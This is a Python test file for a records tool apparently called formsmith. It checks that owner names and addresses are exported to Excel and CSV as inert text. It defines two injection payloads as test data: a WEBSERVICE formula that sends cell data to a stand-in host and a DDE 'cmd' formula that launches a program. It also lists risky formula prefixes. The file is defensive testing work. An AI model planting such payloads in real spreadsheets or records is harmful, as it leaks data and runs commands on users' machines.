"""Issue 14, second pass: what a hostile sheet or store value can do to the clerk's spreadsheet,
to the machine reading a sheet, and to the clerk's terminal.

1. formula injection: a name like =WEBSERVICE(...) is only ever written back as inert text;
2. availability: a sheet that declares a million rows, a 3 GB file, a FIFO as --data: refused
   (or read) in bounded time and memory, one Chinese line, exit 2, the store unchanged;
3. bidi / control characters from the store are escaped in every text output of the CLI.
"""
from __future__ import annotations

import csv
import json
import os
import re
import resource
import shutil
import subprocess
import threading
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from conftest import FORMSMITH, formsmith_cmd, store_rows
from formsmith import documents
from formsmith.workspace import load_workspace

JUNE, SEPT = "2025-06-01", "2025-09-01"
OWING = "1-2-301"                      # owes since before June in the demo
FORMULA_NAME = '=WEBSERVICE("http://x/"&A1)'
FORMULA_ADDRESS = "=cmd|' /C calc'!A0"
RISKY = ("=", "+", "-", "@", "\t", "\r")


def store_bytes(home: Path) -> dict[str, bytes]:
    root = home / "records"
    return {str(p.relative_to(root)): p.read_bytes()
            for p in sorted(root.rglob("*")) if p.is_file() and p.name != ".lock"}


def only_unit_owes(home: Path, unit: str) -> None:
    """Every other unit pays; the demo's sample letters are voided."""
    ws = load_workspace(home)
    with ws.store.transaction() as tx:
        for c in tx.all("charges"):
            if not c.get("paid_on") and c["unit"] != unit:
                tx.update("charges", c["id"], {"paid_on": c["due"]})
    for d in documents.list_documents(ws, template="dunning-letter"):
        documents.mark(ws, d["doc_no"], "void", note="demo sample")


def assert_inert_xlsx(path: Path) -> int:
    """No cell of any worksheet is a formula; text starting like one is quote-prefixed text.
    Returns how many such quote-prefixed cells there are."""
    wb = load_workbook(path)
    risky = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (path.name, ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.lstrip(" ").startswith(RISKY):
                    assert c.data_type == "s" and c.quotePrefix, (path.name, c.coordinate, c.value)
                    risky += 1
    return risky


def assert_inert_csv(path: Path) -> int:
    """No CSV cell starts (after spaces) with = + - @ tab or CR unless it is a plain number."""
    text = path.read_text(encoding="utf-8-sig")
    escaped = 0
    for row in csv.reader(text.splitlines()):
        for cell in row:
            if cell.lstrip(" ").startswith(RISKY):
                assert re.fullmatch(r"-?\d+(\.\d+)?", cell), (path.name, cell)
            if cell.startswith("'") and cell[1:2] in RISKY:
                escaped += 1
    return escaped


# ---------------------------------------------------------------- 1. formula injection

def test_formula_names_are_stored_as_text_and_exported_inert(demo_copy, run, tmp_path):
    """A name or address that Excel would run imports as text (the store keeps it exactly), and
    every sheet formsmith writes from it - records export .xlsx/.csv, the courier and SMS lists
    of the dunning run - holds it as inert text; amounts stay numbers."""
    home = demo_copy
    only_unit_owes(home, OWING)
    owners = tmp_path / "owners.xlsx"
    assert run(home, "records", "export", "owners", str(owners), "--reveal").exit_code == 0
    wb = load_workbook(owners)
    sheet = wb.worksheets[0]
    head = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        if row[head.index("房号")].value == OWING:
            row[head.index("业主姓名")].value = FORMULA_NAME
            row[head.index("通讯地址")].value = FORMULA_ADDRESS
    # as a clerk's Excel keeps them once typed with a leading apostrophe: text cells
    for row in sheet.iter_rows(min_row=2):
        for c in row:
            if isinstance(c.value, str) and c.value.startswith("="):
                c.data_type = "s"
    wb.save(owners)
    result = run(home, "records", "import", "owners", str(owners))
    assert result.exit_code == 0, result.output + result.stderr
    unit = next(u for u in store_rows(home, "units") if u["id"] == OWING)
    owner = next(p for p in store_rows(home, "parties") if p["id"] == unit["owner"])
    assert (owner["name"], owner["mailing_address"]) == (FORMULA_NAME, FORMULA_ADDRESS)

    out_x, out_c = tmp_path / "out.xlsx", tmp_path / "out.csv"
    assert run(home, "records", "export", "owners", str(out_x)).exit_code == 0
    assert run(home, "records", "export", "owners", str(out_c)).exit_code == 0
    assert assert_inert_xlsx(out_x) == 2
    assert assert_inert_csv(out_c) == 2
    # the round trip keeps the names exactly (the CSV's apostrophe is taken off again)
    for suffix in (".xlsx", ".csv"):
        full = tmp_path / f"full{suffix}"
        assert run(home, "records", "export", "owners", str(full), "--reveal").exit_code == 0
        got = json.loads(run(home, "records", "import", "owners", str(full), "--dry-run", "--json").stdout)
        assert got["ok"] and got["counts"]["parties"]["updated"] == 0, (suffix, got)
    charges_csv = tmp_path / "charges.csv"
    assert run(home, "records", "export", "charges", str(charges_csv)).exit_code == 0
    assert_inert_csv(charges_csv)
    charges_x = tmp_path / "charges.xlsx"
    assert run(home, "records", "export", "charges", str(charges_x)).exit_code == 0
    amounts = [r[4] for r in load_workbook(charges_x).active.iter_rows(min_row=2, values_only=True)]
    assert amounts and all(isinstance(a, (int, float)) for a in amounts), amounts[:3]

    # a small dunning run: June's notice (SMS list), September's letter (courier list)
    for as_of in (JUNE, SEPT):
        r = run(home, "dunning", "run", "--as-of", as_of, "--jobs", "1", "--json")
        assert r.exit_code == 0, r.output + r.stderr
    lists = sorted((home / "output" / "dunning").rglob("*.xlsx")) + sorted((home / "output" / "dunning").rglob("*.csv"))
    names = {p.name for p in lists}
    assert {"sms.xlsx", "sms.csv", "courier.xlsx", "courier.csv"} <= names, names
    for p in lists:
        if p.suffix == ".xlsx":
            assert assert_inert_xlsx(p) >= 1, p
            ws = load_workbook(p).active
            head = [c.value for c in ws[1]]
            money = [r[head.index("欠费金额（元）")] for r in ws.iter_rows(min_row=2, values_only=True)]
            assert money and all(isinstance(m, (int, float)) and m > 0 for m in money), (p, money)
        else:
            assert assert_inert_csv(p) >= 1, p


def test_error_copy_of_a_csv_with_formula_names_is_inert(demo_copy, run, tmp_path):
    """--errors copy of a CSV (cells as text) and of an .xlsx: nothing in it is a formula."""
    from samples import make_bad
    before = store_bytes(demo_copy)
    src = tmp_path / "owners-formula.csv"
    src.write_bytes(make_bad.corpus()["owners-formula.csv"])
    copy = tmp_path / "错误.xlsx"
    result = formsmith_cmd(demo_copy, "records", "import", "owners", str(src), "--errors", str(copy))
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert assert_inert_xlsx(copy) >= 3
    # an .xlsx source whose formula-looking text cells Excel would keep as text
    srcx = tmp_path / "owners-formula.xlsx"
    srcx.write_bytes(make_bad.corpus()["owners-formula.xlsx"])
    copyx = tmp_path / "错误2.xlsx"
    result = formsmith_cmd(demo_copy, "records", "import", "owners", str(srcx), "--errors", str(copyx))
    assert result.returncode == 2, result.stderr
    assert assert_inert_xlsx(copyx) >= 1
    assert store_bytes(demo_copy) == before
